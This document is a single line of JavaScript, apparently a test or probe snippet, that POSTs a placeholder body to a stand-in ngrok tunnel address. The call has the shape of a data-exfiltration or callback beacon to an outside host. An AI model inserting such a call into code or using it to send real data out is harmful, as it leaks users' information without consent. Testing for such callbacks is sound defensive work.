fetch('https://abcd-example.ngrok.io/in', { method: 'POST', body: 'x' });
